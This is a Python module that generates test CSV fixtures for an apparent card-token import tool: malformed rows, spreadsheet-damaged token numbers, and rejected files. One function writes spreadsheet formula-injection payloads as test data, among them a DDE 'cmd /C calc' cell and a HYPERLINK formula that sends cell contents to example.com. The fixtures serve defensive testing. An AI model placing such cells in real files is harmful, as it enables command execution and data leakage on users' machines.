"""The samples that are damaged, hostile, or refused as a whole."""

from .people import Dice
from .sample import Sample
from .stripe_cards import HEADER, stripe_id

SHORT_HEADER = ["id", "name", "card.id", "card.address_line1", "chargebee_customer_id"]


def damaged():
    """Everything that can be wrong with a line, between lines with nothing wrong."""
    sample = Sample("damaged.csv", SHORT_HEADER)
    dice = Dice("damaged")
    number = 0

    def cells(name="Ann Plain", line1="1 Plain Street"):
        nonlocal number
        number += 1
        return [stripe_id(dice, "cus"), name, stripe_id(dice, "card"), line1, f"cust_{number:04}"]

    def text(**changes):
        return ",".join(cells(**changes)).encode()

    sample.add(cells())
    # A field too few, a field too many, and one more field from a comma without quotes.
    sample.add_bytes(text().rsplit(b",", 1)[0] + b"\n", "field_count")
    sample.add_bytes(text() + b",\n", "field_count")
    sample.add_bytes(text(line1="1 Plain Street, Suite 2") + b"\n", "field_count")
    sample.add(cells(line1='A "quoted" line\nand a second one'))
    sample.add_blank_line()
    sample.add_blank_line(" \t ")
    # Quotes where none may be: inside a field without quotes, and text behind a closing quote.
    sample.add_bytes(text(name='Ann "Annie" Plain') + b"\n", "stray_quote")
    sample.add_bytes(text(name='"Ann" Plain') + b"\n", "stray_quote")
    sample.add(cells(name="Zoë Übel"))
    # Bytes of Windows-1252, a sequence that was cut, and a NUL.
    sample.add_bytes(text(name="Zo@ Plain").replace(b"@", b"\xeb") + b"\n", "invalid_encoding")
    sample.add_bytes(text(name="Zo@ Plain").replace(b"@", b"\xe2\x82") + b"\n", "invalid_encoding")
    sample.add_bytes(text(name="Ann@ Plain").replace(b"@", b"\x00") + b"\n", "control_character")
    # A line that ends as on another system.
    sample.add_bytes(text() + b"\r\n")
    sample.add(cells(line1="Backslashes \\\" are no escapes"))
    # The last field is never closed, and swallows the row below.
    sample.add_bytes(text(line1='"1 Plain Street') + b"\n" + text() + b"\n", "unterminated_quote")
    return sample


def spreadsheet_damage():
    """A file of Vantiv tokens that was opened in a spreadsheet and saved."""
    header = ["chargebee_customer_id", "cnpToken", "last4", "exp_month", "exp_year", "brand", "zip", "country"]
    sample = Sample("spreadsheet-damage.csv", header, delimiter=";", newline="\r\n", bom=True)
    sample.findings["inferred_mapping"] = 1

    def add(token, ending="ready", finding=None, **changes):
        number = sum(sample.endings.values()) + 1
        cells = {"chargebee_customer_id": f"cust_{number:04}", "cnpToken": token, "last4": "4321", "exp_month": "7"}
        cells |= {"exp_year": "2044", "brand": "VI", "zip": "70112", "country": "US"}
        sample.add({**cells, **changes}, ending, finding=finding)

    add("1111222233330123", last4="0123")
    # Scientific notation, with a point and with a comma.
    add("1.11122E+15", "spreadsheet_damage")
    add("1,11122E+15", "spreadsheet_damage")
    # 19 digits of which four are now zeros; leading zeros that are gone.
    add("1111222233334440000", "spreadsheet_damage")
    add("80023225598", "spreadsheet_damage")
    # 16 digits of which the last is a zero: an honest number in ten looks so, and nobody can tell.
    add("1111222233334560")
    # 0042 and 0007: the mapping puts the zeros back, and counts it.
    add("1111222233330042", finding="value_repaired", last4="42")
    add("1111222233330007", finding="value_repaired", last4="7")
    # March 2044, as a date and as what the spreadsheet shows of one.
    add("1111222233334324", "value_malformed", exp_month="Mrz 44")
    add("1111222233334325", "value_malformed", exp_year="01.03.2044")
    # Numbers of customers and a zip that are none any more.
    add("1111222233334326", "spreadsheet_damage", chargebee_customer_id="1.2E+05")
    add("1111222233334327", "spreadsheet_damage", zip="7.0E+04")
    # A zip that lost its zero is a zip all the same (02134 in Boston).
    add("1111222233334328", zip="2134")
    return sample


def formula_cells():
    """Cells that a spreadsheet would run, in a file made for spreadsheets (sep= line, semicolons)."""
    sample = Sample("formula-cells.csv", SHORT_HEADER, delimiter=";", newline="\r\n", first_line="sep=;")
    dice = Dice("formula-cells")

    def add(name, ending="ready", customer=None, card=None, line1="1 Plain Street"):
        number = sum(sample.endings.values()) + 1
        token = stripe_id(dice, "card") if card is None else card
        sample.add([stripe_id(dice, "cus"), name, token, line1, customer or f"cust_{number:04}"], ending)

    add("=cmd|' /C calc'!A0")
    add('=HYPERLINK("http://example.com/?x="&A1,"Your invoice")')
    add("+1+1", line1="-2+3")
    add("@SUM(A1:A9)")
    add("\t=1+1")
    # Chargebee takes any characters in an id, so these two are sent, and stand in the reports.
    add("Ann Plain", customer="=1+1")
    add("Ann Plain", customer="-cust_0007")
    # Rejected, so that the file of rejected rows has them.
    add("=cmd|' /C calc'!A0", "missing_token", card="")
    add("+Ann", "token_malformed", card="=card_1J0yEyH65PkfON7E6pXEeoyZ")
    return sample


def header_only():
    sample = Sample("header-only.csv", HEADER)
    sample.findings["no_rows"] = 1
    return sample


def wrong_columns():
    """Stripe's card export as it comes, without a column for Chargebee's customer; refused."""
    sample = Sample("wrong-columns.csv", HEADER[:-1])
    dice = Dice("wrong-columns")
    for _ in range(5):
        card = stripe_id(dice, "card")
        sample.add({"name": "Ann Plain", "id": stripe_id(dice, "cus"), "card.id": card, "default_source": card})
    return sample
